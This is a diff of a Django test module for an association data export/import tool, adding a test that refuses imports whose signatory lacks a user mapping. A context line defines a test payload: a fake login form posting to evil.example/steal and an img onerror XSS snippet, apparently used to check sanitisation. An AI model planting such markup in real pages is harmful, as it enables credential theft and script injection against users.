@@ -14,10 +14,12 @@ from django.apps import apps
 from django.contrib.auth import get_user_model
 from django.core.management import call_command
 from django.core.management.base import CommandError
+from django.utils import timezone
 
 from finsam import transfer
 from members.models import Association, UserRole
 from reporting import snapshots
+from reporting.models import DecidedDocument
 
 EVIL = '<form action="https://evil.example/steal"><button>Logga in</button></form><img src=x onerror=alert(1)>'
 
@@ -215,3 +217,21 @@ def test_a_user_mapping_that_is_not_a_mapping_is_refused(association, tmp_path):
     users = tmp_path / "users.json"
     users.write_text(json.dumps(["alice"]))
     _refused(document, tmp_path, "ska vara ett JSON-objekt", map_users=str(users))
+
+
+def test_a_signature_needs_its_signer_in_the_user_mapping(db, kansli_user, tmp_path):
+    """A role is left out without a mapping; a signatory (who signed) cannot be, so the
+    import is refused until --map-users says who it is."""
+    call_command("load_demo", verbosity=0)
+    decided = DecidedDocument.objects.filter(association__slug="vasteras").first()
+    signing_round = apps.get_model("signing", "SigningRound").objects.create(
+        association=decided.association,
+        year=decided.year,
+        document=decided,
+        started_at=timezone.now(),
+    )
+    apps.get_model("signing", "Signatory").objects.create(
+        signing_round=signing_round, user=kansli_user, name="Alice", title="Ordförande"
+    )
+    document = _exported("vasteras")
+    _refused(document, tmp_path, "signing.signatory: en rad hör till användaren ”alice”")
